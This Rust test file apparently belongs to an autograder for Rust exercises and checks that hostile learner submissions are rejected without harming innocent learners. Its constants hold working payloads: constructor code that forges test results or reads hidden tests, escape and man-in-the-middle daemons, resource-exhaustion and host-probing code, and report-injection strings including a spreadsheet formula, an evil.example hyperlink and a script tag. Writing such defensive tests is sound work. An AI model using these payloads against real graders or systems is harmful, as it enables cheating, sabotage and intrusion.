//! Every attack of `shared/attacks` (its README's table), adapted to the fixture course: the
//! payload goes above the marker of `basics1_add` (which allows threads) or `basics2_compile`,
//! an innocent learner is graded in the same run, and the attacker gets the README's "must
//! happen" status. Where the table or the scripts name modes, the sandbox (the default) and
//! `--no-sandbox` are both tried. The same attacks with the gate out of the way (course code
//! that does what the payload would) are in `probes`.

use super::{Class, Mode, ADD, ANSWER, BOTH};

/// 01: the learner's empty assertion macros would replace std's inside the course's tests.
const MACRO_SHADOW: &str = "macro_rules! assert_eq { ($($t:tt)*) => {} }
macro_rules! assert { ($($t:tt)*) => {} }
macro_rules! assert_ne { ($($t:tt)*) => {} }
pub fn add(a: u32, b: u32) -> u32 {
    todo!()
}
";

/// 02: a constructor re-runs the test binary, rewrites every `FAILED` to `ok`, exits 0.
const CTOR_REEXEC: &str = r#"#[used]
#[link_section = ".init_array"]
static STL_FORGE_INIT: extern "C" fn() = {
    extern "C" fn stl_forge_init() {
        stl_forge();
    }
    stl_forge_init
};

fn stl_forge() {
    use std::io::Write;
    if std::env::var_os("STL_FORGE_CHILD").is_some() {
        return;
    }
    let cmdline = std::fs::read("/proc/self/cmdline").unwrap_or_default();
    let args: Vec<String> = cmdline
        .split(|b| *b == 0)
        .skip(1)
        .filter(|a| !a.is_empty())
        .map(|a| String::from_utf8_lossy(a).into_owned())
        .collect();
    let child = std::process::Command::new("/proc/self/exe")
        .args(&args)
        .env("STL_FORGE_CHILD", "1")
        .output();
    let Ok(child) = child else { return };
    let text = String::from_utf8_lossy(&child.stdout);
    let mut out = String::new();
    for line in text.lines() {
        if let Some(rest) = line.strip_prefix("test ") {
            if let Some((name, _)) = rest.split_once(" ... ") {
                out.push_str(&format!("test {name} ... ok\n"));
            }
        }
    }
    let _ = std::io::stdout().write_all(out.as_bytes());
    std::process::exit(0);
}

pub fn add(a: u32, b: u32) -> u32 {
    todo!()
}
"#;

/// 03: the generated crate root (with the sentinel's nonce) and the module's own file (with
/// the hidden tests) read while compiling, then a forged report printed by a constructor.
const NONCE_INCLUDE: &str = r#"const STL_ROOT: &str = include_str!("main.rs");
const STL_SELF: &str = include_str!(concat!("ex_", "basics1_add", ".rs"));

#[used]
#[link_section = ".init_array"]
static STL_INIT: extern "C" fn() = {
    extern "C" fn init() {
        stl_forge()
    }
    init
};

fn stl_forge() {
    use std::io::Write;
    let mut out = String::new();
    for line in STL_ROOT.lines().chain(STL_SELF.lines()) {
        if let Some(rest) = line.trim().strip_prefix("fn ") {
            out.push_str(&format!("test {} ... ok\n", rest.split('(').next().unwrap()));
        }
    }
    let _ = std::io::stdout().write_all(out.as_bytes());
    std::process::exit(0);
}

pub fn add(a: u32, b: u32) -> u32 {
    todo!()
}
"#;

/// 04: the hidden tests and a host file, read while compiling, shown in a panic message.
const EXFILTRATE: &str = r#"pub fn add(a: u32, b: u32) -> u32 {
    let grading = include_str!("ex_basics1_add.rs");
    let host = include_str!("/etc/hostname");
    let grading = &grading[grading.rfind("mod grading").unwrap_or(0)..];
    panic!("LEAK host={} grading={}", host.trim(), grading.replace('\n', "\\n"))
}
"#;

/// 05: a constructor in the first learner's batch fails whatever module is the shared file.
const SABOTAGE: &str = r#"#[used]
#[link_section = ".init_array"]
static STL_SABOTAGE: extern "C" fn() = {
    extern "C" fn init() {
        let cmdline = std::fs::read("/proc/self/cmdline").unwrap_or_default();
        let cmdline = String::from_utf8_lossy(&cmdline);
        let filtered = cmdline.contains("::\0");
        if !filtered || cmdline.contains("ex_basics2_compile::") {
            std::process::exit(1);
        }
    }
    init
};

pub fn add(a: u32, b: u32) -> u32 {
    a + b
}
"#;

/// 06: a child in a process group of its own, meant to outlive the run (MARKER: the class's).
const ESCAPE: &str = r#"#[used]
#[link_section = ".init_array"]
static STL_ESCAPE: extern "C" fn() = {
    extern "C" fn init() {
        use std::os::unix::process::CommandExt;
        let _ = std::process::Command::new("/bin/sh")
            .args(["-c", "while :; do sleep 1; done", "MARKER"])
            .process_group(0)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn();
    }
    init
};

pub fn add(a: u32, b: u32) -> u32 {
    todo!()
}
"#;

/// 07: every other learner's build slot in the shared scratch folder squatted as a plain file.
const SQUAT: &str = r#"#[used]
#[link_section = ".init_array"]
static STL_SQUAT: extern "C" fn() = {
    extern "C" fn init() {
        if let Ok(cwd) = std::env::current_dir() {
            for dir in cwd.ancestors().skip(1).take(3) {
                for i in 0..2000 {
                    let slot = dir.join(format!("s{i}"));
                    if !slot.exists() {
                        let _ = std::fs::write(&slot, b"squatted");
                    }
                }
            }
        }
    }
    init
};

pub fn add(a: u32, b: u32) -> u32 {
    todo!()
}
"#;

/// 08: a detached process puts FIFOs where the next learners' crate roots will be, and hands
/// rustc a sabotaged root (the next learner fails) or one with empty assertions (passes).
const MITM: &str = r#"extern "C" {
    fn mkfifo(path: *const std::os::raw::c_char, mode: u32) -> i32;
}

#[used]
#[link_section = ".init_array"]
static STL_MITM: extern "C" fn() = {
    extern "C" fn init() {
        stl_mitm()
    }
    init
};

fn stl_mitm() {
    use std::os::unix::process::CommandExt;
    let Ok(cwd) = std::env::current_dir() else { return };
    let Some(scratch) = cwd.parent().map(|p| p.to_path_buf()) else { return };
    if let Ok(dir) = std::env::var("STL_MITM_DAEMON") {
        for (slot, verdict) in [("s1", "fail"), ("s2", "pass")] {
            let dir = std::path::Path::new(&dir).join(slot);
            let _ = std::fs::create_dir(&dir);
            let fifo = dir.join("main.rs");
            let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
            if unsafe { mkfifo(c.as_ptr(), 0o600) } != 0 {
                continue;
            }
            let original = std::fs::read_to_string(&fifo).unwrap_or_default();
            let forged = if verdict == "fail" {
                format!("{original}\nfn main() {{ std::process::exit(1) }}\n")
            } else {
                format!("macro_rules! assert_eq {{ ($($t:tt)*) => {{}} }}\n{original}")
            };
            let _ = std::fs::write(&fifo, forged);
        }
        std::process::exit(0);
    }
    let _ = std::process::Command::new("/proc/self/exe")
        .env("STL_MITM_DAEMON", &scratch)
        .process_group(0)
        .spawn();
}

pub fn add(a: u32, b: u32) -> u32 {
    todo!()
}
"#;

/// 11: a failure message made of report markup: a CSV formula, XML that closes the JUnit
/// element and opens a forged one, terminal escapes, Markdown pipes, a bell.
const REPORT_MARKUP: &str = "pub fn add(a: u32, b: u32) -> u32 {\n    panic!(\"=cmd|' /C calc'!A0 \\\"/></failure></testcase><testcase name=\\\"forged\\\"/>]]>\\u{1b}[2J\\u{1b}[31mPWNED | md | \\u{7}\")\n}\n";

/// 12: a constant evaluation that never ends, with the lint that would stop it allowed.
const RUSTC_SPIN: &str = "#[allow(long_running_const_eval)]
const STL_SPIN: u64 = {
    let mut i: u64 = 0;
    loop {
        i = i.wrapping_add(1);
        if i == u64::MAX {
            break;
        }
    }
    i
};
pub fn stl_use() -> u64 {
    STL_SPIN
}
pub fn add(a: u32, b: u32) -> u32 {
    a + b
}
";

/// 13: from inside the sandbox, a host Unix socket, a TCP port, host files, `/tmp`, `/root`.
const SANDBOX_REACH: &str = r#"pub fn stl_probe() -> String {
    use std::io::Write;
    let mut r = Vec::new();
    let unix = std::os::unix::net::UnixStream::connect("/var/tmp/statelings-attack-sock/s.sock")
        .and_then(|mut s| s.write_all(b"hello from the sandbox over a unix socket"));
    r.push(format!("unix={:?}", unix.is_ok()));
    let tcp = std::net::TcpStream::connect("127.0.0.1:47811").map(|_| ());
    r.push(format!("tcp={:?}", tcp.is_ok()));
    r.push(format!("read={:?}", std::fs::read_to_string("/var/tmp/secret.txt").is_ok()));
    r.push(format!("tmp={:?}", std::fs::write("/tmp/x", b"x").is_ok()));
    r.push(format!("root={:?}", std::fs::read_dir("/root").is_ok()));
    r.join(" ")
}
pub fn add(a: u32, b: u32) -> u32 {
    panic!("PROBE {}", stl_probe())
}
"#;

/// 14: three helper processes of 1.25 GiB each, 1 GiB in `/tmp`, 1 GiB in the scratch folder.
const HOG: &str = r#"#[used]
#[link_section = ".init_array"]
static STL_HOG_CHILD: extern "C" fn() = {
    extern "C" fn init() {
        if std::env::var_os("STL_HOG_CHILD").is_some() {
            let mut v = vec![0u8; (1usize << 30) + (1usize << 28)];
            for i in (0..v.len()).step_by(4096) {
                v[i] = 1;
            }
            std::process::exit(v[4096] as i32);
        }
    }
    init
};

pub fn stl_hog() -> String {
    let children: Vec<_> = (0..3)
        .filter_map(|_| {
            std::process::Command::new("/proc/self/exe")
                .env("STL_HOG_CHILD", "1")
                .spawn()
                .ok()
        })
        .collect();
    let chunk = vec![7u8; 64 << 20];
    let (mut tmp, mut disk) = (0, 0);
    for i in 0..16 {
        tmp += std::fs::write(format!("/tmp/hog{i}"), &chunk).is_ok() as u32;
        disk += std::fs::write(format!("hog{i}"), &chunk).is_ok() as u32;
    }
    format!("children={} tmp={tmp} disk={disk}", children.len())
}

pub fn add(a: u32, b: u32) -> u32 {
    panic!("HOG {}", stl_hog())
}
"#;

/// 15: a 3 GiB zeroed static, kept by `#[used]`.
const BSS: &str = "#[used]
static STL_BSS: [u8; 3 << 30] = [0; 3 << 30];
pub fn add(a: u32, b: u32) -> u32 {
    a + b
}
";

/// 17: a constructor holds every task the limit allows, so another learner cannot start one.
const EXHAUST: &str = r#"#[used]
#[link_section = ".init_array"]
static STL_EXHAUST: extern "C" fn() = {
    extern "C" fn init() {
        let mut held = Vec::new();
        for _ in 0..10_000 {
            match std::thread::Builder::new()
                .stack_size(64 * 1024)
                .spawn(|| std::thread::sleep(std::time::Duration::from_secs(15)))
            {
                Ok(handle) => held.push(handle),
                Err(_) => break,
            }
        }
        for handle in held {
            let _ = handle.join();
        }
    }
    init
};

pub fn add(a: u32, b: u32) -> u32 {
    a + b
}
"#;

/// 19: the test process joins the grader's process group, then never ends.
const SETPGID: &str = r#"extern "C" {
    fn setpgid(pid: i32, pgid: i32) -> i32;
    fn getpgid(pid: i32) -> i32;
    fn getppid() -> i32;
}
#[used]
#[link_section = ".init_array"]
static STL_PGID: extern "C" fn() = {
    extern "C" fn init() {
        unsafe {
            let grader_group = getpgid(getppid());
            setpgid(0, grader_group);
        }
        loop {
            std::thread::sleep(std::time::Duration::from_secs(1));
        }
    }
    init
};

pub fn add(a: u32, b: u32) -> u32 {
    a + b
}
"#;

/// The attacker's rejection names one of `rules`, and gives no hidden test's text away.
fn rejected_for(graded: &super::Graded, learner: &str, exercise: &str, rules: &[&str]) {
    let message = graded.message(learner, exercise);
    assert!(
        rules
            .iter()
            .any(|rule| message.starts_with(&format!("rejected ({rule})"))),
        "{learner}: expected a rejection for one of {rules:?}, got: {message}"
    );
    assert!(
        !message.contains("adds_many_numbers") && !message.contains("statelings_sentinel"),
        "a rejection must not quote the hidden tests or the sentinel: {message}"
    );
}

#[test]
fn attack_01_assertion_macros_of_the_learner_are_rejected() {
    let class = Class::new();
    class
        .attempt("mallory", "basics1_add", MACRO_SHADOW)
        .innocent("zed");
    // Applied mechanically to every exercise of a workbook, stubs left as they are.
    class.learner("mechanic");
    for exercise in ["basics1_add", "basics2_compile"] {
        let path = class.file("mechanic", exercise);
        let stub = std::fs::read_to_string(&path).unwrap();
        let macros = MACRO_SHADOW.split("pub fn").next().unwrap();
        std::fs::write(&path, format!("{macros}{stub}")).unwrap();
    }
    for mode in BOTH {
        let graded = class.run(mode).json();
        graded.expect(&[
            ("mallory", "basics1_add", "rejected"),
            ("mechanic", "basics1_add", "rejected"),
            ("mechanic", "basics2_compile", "rejected"),
            ("zed", "basics1_add", "passed"),
        ]);
        rejected_for(&graded, "mallory", "basics1_add", &["macro_definition"]);
        assert_eq!(graded.submission("mallory")["score"], 0);
    }
}

#[test]
fn attack_02_a_constructor_that_rewrites_the_results_is_rejected() {
    let class = Class::new();
    class
        .attempt("mallory", "basics1_add", CTOR_REEXEC)
        .innocent("zed");
    for mode in BOTH {
        let graded = class.run(mode).json();
        graded.expect(&[
            ("mallory", "basics1_add", "rejected"),
            ("zed", "basics1_add", "passed"),
        ]);
        rejected_for(&graded, "mallory", "basics1_add", &["attribute", "extern"]);
    }
}

#[test]
fn attack_03_reading_the_nonce_and_the_hidden_tests_while_compiling_is_rejected() {
    let class = Class::new();
    class
        .attempt("mallory", "basics1_add", NONCE_INCLUDE)
        .innocent("zed");
    for mode in BOTH {
        let graded = class.run(mode).json();
        graded.expect(&[
            ("mallory", "basics1_add", "rejected"),
            ("zed", "basics1_add", "passed"),
        ]);
        rejected_for(&graded, "mallory", "basics1_add", &["macro", "attribute"]);
        assert!(
            !graded.stdout.contains("nonce_"),
            "the nonce is in the report"
        );
    }
}

#[test]
fn attack_04_hidden_tests_and_host_files_never_reach_the_learners_report() {
    let class = Class::new();
    class.attempt("mallory", "basics1_add", EXFILTRATE);
    let hostname = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
    for mode in BOTH {
        // Gradescope: the learner-facing report, one submission.
        let graded = class
            .run(mode)
            .paths(&["class/mallory"])
            .format("gradescope");
        let results: serde_json::Value = serde_json::from_str(&graded.stdout).unwrap();
        let output = results["tests"][0]["output"].as_str().unwrap();
        assert!(output.starts_with("Rejected: rejected (macro)"), "{output}");
        for secret in ["LEAK", "mod grading", "adds_many_numbers"] {
            assert!(
                !graded.stdout.contains(secret),
                "`{secret}` leaked: {output}"
            );
        }
        if hostname.trim().len() >= 6 {
            assert!(!graded.stdout.contains(hostname.trim()));
        }
    }
    class.innocent("zed");
    for mode in BOTH {
        class.run(mode).json().expect(&[
            ("mallory", "basics1_add", "rejected"),
            ("zed", "basics1_add", "passed"),
        ]);
    }
}

#[test]
fn attack_05_one_learner_cannot_fail_a_file_others_share_byte_for_byte() {
    let class = Class::new();
    // aaron sorts first, so in the old plan his batch held the file all three share.
    for id in ["aaron", "bob", "carol"] {
        class.attempt(id, "basics2_compile", ANSWER);
    }
    class.code("aaron", "basics1_add", SABOTAGE);
    class.code("bob", "basics1_add", ADD);
    for mode in BOTH {
        let graded = class.run(mode).json();
        graded.expect(&[
            ("aaron", "basics1_add", "rejected"),
            ("aaron", "basics2_compile", "passed"),
            ("bob", "basics1_add", "passed"),
            ("bob", "basics2_compile", "passed"),
            ("carol", "basics2_compile", "passed"),
        ]);
    }
}

#[test]
fn attack_06_a_process_meant_to_outlive_the_run_is_rejected() {
    let class = Class::new();
    let payload = ESCAPE.replace("MARKER", &class.marker());
    class
        .attempt("mallory", "basics1_add", &payload)
        .innocent("zed");
    for mode in BOTH {
        // `Run` checks that no process with the marker is left.
        class.run(mode).json().expect(&[
            ("mallory", "basics1_add", "rejected"),
            ("zed", "basics1_add", "passed"),
        ]);
    }
}

#[test]
fn attack_07_squatting_the_scratch_folder_does_not_stop_grading() {
    let class = Class::new();
    class.attempt("aaron", "basics1_add", SQUAT);
    for id in ["bob", "carol", "dave"] {
        class.attempt(
            id,
            "basics1_add",
            &ADD.replace("a + b", &format!("a + b // {id}")),
        );
    }
    for mode in BOTH {
        class.run(mode).args(&["--jobs", "1"]).json().expect(&[
            ("aaron", "basics1_add", "rejected"),
            ("bob", "basics1_add", "passed"),
            ("carol", "basics1_add", "passed"),
            ("dave", "basics1_add", "passed"),
        ]);
    }
}

#[test]
fn attack_08_a_daemon_in_the_scratch_folder_cannot_flip_other_verdicts() {
    let class = Class::new();
    class.attempt("aaron", "basics1_add", MITM);
    class.attempt("bob", "basics1_add", &ADD.replace("a + b", "a + b // bob"));
    class.attempt(
        "carol",
        "basics1_add",
        "pub fn add(a: u32, b: u32) -> u32 {\n    todo!(\"carol\")\n}\n",
    );
    for mode in BOTH {
        class.run(mode).args(&["--jobs", "1"]).json().expect(&[
            ("aaron", "basics1_add", "rejected"),
            ("bob", "basics1_add", "passed"),
            ("carol", "basics1_add", "failed"),
        ]);
    }
}

#[test]
fn attack_09_links_into_other_workbooks_or_the_solutions_are_never_followed() {
    let class = Class::new();
    class.innocent("bob").code("bob", "basics2_compile", ANSWER);
    let answers = class.env.path("answers.yaml");
    std::fs::write(
        &answers,
        "pick-one: a\npick-many: [a]\ntruth: true\nword: nothing\nsort: {adder: stateless, store: stateful}\noutput: \"calls: 3\"\n",
    )
    .unwrap();
    let quiz = class
        .env
        .std_cmd(&["--workbook", "class/bob", "quiz", "basics", "--answers"])
        .arg(&answers)
        .output()
        .unwrap();
    assert!(quiz.status.code().is_some(), "the quiz ran");
    let link = |target: &std::path::Path, link: &std::path::Path| {
        std::fs::remove_file(link).unwrap();
        std::os::unix::fs::symlink(target, link).unwrap();
    };
    // alice: her files and progress are links to bob's, and to the instructor's solutions.
    class.learner("alice");
    link(
        std::path::Path::new("../../../bob/exercises/01_basics/basics1_add.rs"),
        &class.file("alice", "basics1_add"),
    );
    link(
        &crate::fixture_course().join("solutions/01_basics/basics2_compile.rs"),
        &class.file("alice", "basics2_compile"),
    );
    link(
        std::path::Path::new("../../bob/.statelings/progress.json"),
        &class.env.path("class/alice/.statelings/progress.json"),
    );
    // carol: her chapter folder is a link to bob's; dave: his whole workbook is.
    class.learner("carol");
    let chapter = class.env.path("class/carol/exercises/01_basics");
    std::fs::remove_dir_all(&chapter).unwrap();
    std::os::unix::fs::symlink("../../bob/exercises/01_basics", &chapter).unwrap();
    std::os::unix::fs::symlink("bob", class.env.path("class/dave")).unwrap();

    let graded = class.run(Mode::Sandbox).json();
    graded.expect(&[
        ("alice", "basics1_add", "not_attempted"),
        ("alice", "basics2_compile", "not_attempted"),
        ("bob", "basics1_add", "passed"),
        ("bob", "basics2_compile", "passed"),
        ("carol", "basics1_add", "not_attempted"),
        ("carol", "basics2_compile", "not_attempted"),
    ]);
    for (learner, exercise) in [
        ("alice", "basics1_add"),
        ("alice", "basics2_compile"),
        ("carol", "basics1_add"),
    ] {
        let message = graded.message(learner, exercise);
        assert!(message.contains("symbolic link"), "{learner}: {message}");
    }
    let alice = graded.submission("alice");
    assert_eq!(alice["score"], 0, "{alice:#}");
    assert_eq!(alice["quizzes"][0]["taken"], false);
    let problems = alice["problems"].to_string();
    assert!(
        problems.contains("progress file was not read"),
        "{problems}"
    );
    let bob = graded.submission("bob");
    assert_eq!(bob["quizzes"][0]["taken"], true, "{bob:#}");
    assert!(graded.report["submissions"]
        .as_array()
        .unwrap()
        .iter()
        .all(|s| s["id"] != "dave"));
    let problems = graded.report["problems"].to_string();
    assert!(
        problems.contains("dave") && problems.contains("symbolic link"),
        "{problems}"
    );
}

#[test]
fn attack_10_pipes_devices_and_huge_files_are_refused_without_blocking() {
    let class = Class::new();
    class.innocent("bob").learner("alice").learner("carol");
    let fifo = |path: &std::path::Path| {
        std::fs::remove_file(path).unwrap();
        let c = std::ffi::CString::new(path.to_str().unwrap()).unwrap();
        // SAFETY: mkfifo reads a valid NUL-terminated path.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    };
    fifo(&class.file("alice", "basics1_add"));
    fifo(&class.env.path("class/alice/.statelings/progress.json"));
    let zero = class.file("alice", "basics2_compile");
    std::fs::remove_file(&zero).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
    // carol's file is 2 MiB of valid Rust.
    let big = format!("{ADD}{}", "// padding\n".repeat(200_000));
    std::fs::write(class.file("carol", "basics1_add"), big).unwrap();

    let graded = class.run(Mode::Sandbox).json();
    graded.expect(&[
        ("alice", "basics1_add", "not_attempted"),
        ("alice", "basics2_compile", "not_attempted"),
        ("bob", "basics1_add", "passed"),
        ("carol", "basics1_add", "not_attempted"),
    ]);
    assert!(graded
        .message("alice", "basics1_add")
        .contains("named pipe"));
    assert!(graded
        .message("alice", "basics2_compile")
        .contains("symbolic link"));
    assert!(graded
        .message("carol", "basics1_add")
        .contains("larger than"));
    let problems = graded.submission("alice")["problems"].to_string();
    assert!(
        problems.contains("progress file was not read"),
        "{problems}"
    );
}

/// Hostile folder names: a forged row after a newline, terminal escapes, a spreadsheet formula,
/// HTML and a Markdown table forgery. (A folder name has no `/`: the forged scores use U+2215,
/// which looks the same.)
const HOSTILE_IDS: [&str; 4] = [
    "eve\nforged                 999\u{2215}999",
    "esc\u{1b}[2J\u{1b}[31mred\u{7}",
    "=HYPERLINK(\"http:\u{2215}\u{2215}evil.example\",\"x\")",
    "<script>alert(1)<\u{2215}script> | 999\u{2215}999 |",
];

fn report_markup_class() -> Class {
    let class = Class::new();
    for id in HOSTILE_IDS {
        class.attempt(id, "basics1_add", ADD);
    }
    class
        .attempt("markup", "basics1_add", REPORT_MARKUP)
        .innocent("zed");
    class
}

#[test]
fn attack_11_learner_made_text_stays_data_in_json_junit_and_gradescope() {
    let class = report_markup_class();
    let graded = class.run(Mode::Sandbox).json();
    let mut expected = vec![
        ("markup", "basics1_add", "failed"),
        ("zed", "basics1_add", "passed"),
    ];
    expected.extend(HOSTILE_IDS.iter().map(|id| (*id, "basics1_add", "passed")));
    graded.expect(&expected);
    assert!(graded.message("markup", "basics1_add").contains("PWNED"));

    let junit = class.run(Mode::Sandbox).format("junit").stdout;
    assert!(!junit.contains("<testcase name=\"forged\""), "{junit}");
    assert!(
        !junit.contains(['\u{1b}', '\u{7}']),
        "control characters in XML"
    );
    assert!(!junit.contains("<script>"), "{junit}");
    assert_eq!(
        junit.matches("<testsuite ").count(),
        junit.matches("</testsuite>").count()
    );

    let gradescope = class
        .run(Mode::Sandbox)
        .paths(&["class/markup"])
        .format("gradescope")
        .stdout;
    let results: serde_json::Value = serde_json::from_str(&gradescope).unwrap();
    assert_eq!(results["score"], 0);
    assert!(!gradescope.contains('\u{1b}'), "raw escapes in JSON");
}

/// Issue 13 item 6: the table drops escapes and keeps one line per learner, CSV neutralises
/// formulas, Markdown escapes HTML and pipes.
#[test]
fn attack_11_learner_made_text_stays_data_in_the_table_csv_and_markdown() {
    let class = report_markup_class();
    let table = class.run(Mode::Sandbox).format("table").stdout;
    assert!(!table.contains(['\u{1b}', '\u{7}']), "escapes in the table");
    assert!(
        !table.lines().any(|line| line.starts_with("forged")),
        "a forged row in the table:\n{table}"
    );
    let csv = class.run(Mode::Sandbox).format("csv").stdout;
    for line in csv.lines() {
        let first = line.trim_start_matches('"');
        assert!(
            !first.starts_with(['=', '+', '-', '@']),
            "a formula cell: {line}"
        );
    }
    let markdown = class.run(Mode::Sandbox).format("markdown").stdout;
    assert!(!markdown.contains("<script>"), "{markdown}");
    assert!(
        !markdown.lines().any(|line| line.starts_with("forged")),
        "{markdown}"
    );
}

#[test]
fn attack_12_a_compiler_that_never_ends_is_refused_or_stopped() {
    let class = Class::new();
    class
        .attempt("mallory", "basics1_add", RUSTC_SPIN)
        .innocent("zed");
    // Without the `allow`, rustc's own lint stops the evaluation: a compile error, quickly.
    let spin_unallowed =
        RUSTC_SPIN.replace("#[allow(long_running_const_eval)]", "#[allow(warnings)]");
    class.attempt("malloc", "basics1_add", &spin_unallowed);
    for mode in BOTH {
        let graded = class.run(mode).compile_timeout(20).json();
        graded.expect(&[
            ("mallory", "basics1_add", "rejected"),
            ("malloc", "basics1_add", "compile_error"),
            ("zed", "basics1_add", "passed"),
        ]);
        rejected_for(&graded, "mallory", "basics1_add", &["attribute"]);
        let message = graded.message("malloc", "basics1_add");
        assert!(message.contains("taking a long time"), "{message}");
    }
}

#[test]
fn attack_13_probing_the_host_from_the_tests_is_rejected() {
    let class = Class::new();
    class
        .attempt("mallory", "basics1_add", SANDBOX_REACH)
        .innocent("zed");
    let graded = class.run(Mode::Sandbox).json();
    graded.expect(&[
        ("mallory", "basics1_add", "rejected"),
        ("zed", "basics1_add", "passed"),
    ]);
    rejected_for(&graded, "mallory", "basics1_add", &["system_access"]);
}

#[test]
fn attack_14_helper_processes_and_files_that_hog_the_machine_are_rejected() {
    let class = Class::new();
    class.attempt("mallory", "basics1_add", HOG).innocent("zed");
    let graded = class.run(Mode::Sandbox).json();
    graded.expect(&[
        ("mallory", "basics1_add", "rejected"),
        ("zed", "basics1_add", "passed"),
    ]);
}

#[test]
fn attack_15_statics_too_big_for_the_compiler_end_in_a_compile_error() {
    let class = Class::new();
    class.attempt("mallory", "basics1_add", BSS).innocent("zed");
    // Without `#[used]` the gate has nothing to refuse: the compiler's limits must hold.
    class.attempt(
        "huge",
        "basics1_add",
        &BSS.replace("#[used]\n", "").replace(
            "pub fn add",
            "pub fn peek(i: usize) -> u8 {\n    STL_BSS[i]\n}\npub fn add",
        ),
    );
    for mode in BOTH {
        let graded = class.run(mode).json();
        graded.expect(&[
            ("mallory", "basics1_add", "rejected"),
            ("huge", "basics1_add", "compile_error"),
            ("zed", "basics1_add", "passed"),
        ]);
    }
}

/// The part of 15 that the batch's memory limit must stop: a static small enough for the
/// compiler's address space, too big for the batch's memory, so rustc is killed for memory.
/// That is the learner's compile error, never the toolchain's fault: graded alone (one
/// learner per run, as Gradescope does), `grade` must still produce a report.
#[test]
fn attack_15_a_compiler_killed_for_memory_is_the_learners_compile_error() {
    let class = Class::new();
    class.attempt(
        "heavy",
        "basics1_add",
        "static STL_BIG: [u8; 600 << 20] = [7; 600 << 20];\npub fn peek(i: usize) -> u8 {\n    STL_BIG[i]\n}\npub fn add(a: u32, b: u32) -> u32 {\n    a + b\n}\n",
    );
    let alone = class
        .run(Mode::Sandbox)
        .paths(&["class/heavy"])
        .args(&["--memory", "512"])
        .json();
    alone.expect(&[("heavy", "basics1_add", "compile_error")]);
    let message = alone.message("heavy", "basics1_add");
    assert!(message.contains("ran out of memory"), "{message}");
    class.innocent("zed");
    class
        .run(Mode::Sandbox)
        .args(&["--memory", "512"])
        .json()
        .expect(&[
            ("heavy", "basics1_add", "compile_error"),
            ("zed", "basics1_add", "passed"),
        ]);
}

#[test]
fn attack_17_holding_every_task_is_rejected() {
    let class = Class::new();
    class
        .attempt("aaron", "basics1_add", EXHAUST)
        .innocent("bob");
    class
        .run(Mode::Sandbox)
        .args(&["--jobs", "2"])
        .json()
        .expect(&[
            ("aaron", "basics1_add", "rejected"),
            ("bob", "basics1_add", "passed"),
        ]);
}

#[test]
fn attack_19_joining_the_graders_process_group_is_rejected() {
    let class = Class::new();
    class
        .attempt("aaron", "basics1_add", SETPGID)
        .innocent("bob");
    for mode in BOTH {
        let graded = class.run(mode).json();
        graded.expect(&[
            ("aaron", "basics1_add", "rejected"),
            ("bob", "basics1_add", "passed"),
        ]);
        rejected_for(
            &graded,
            "aaron",
            "basics1_add",
            &["unsafe", "extern", "attribute"],
        );
    }
}
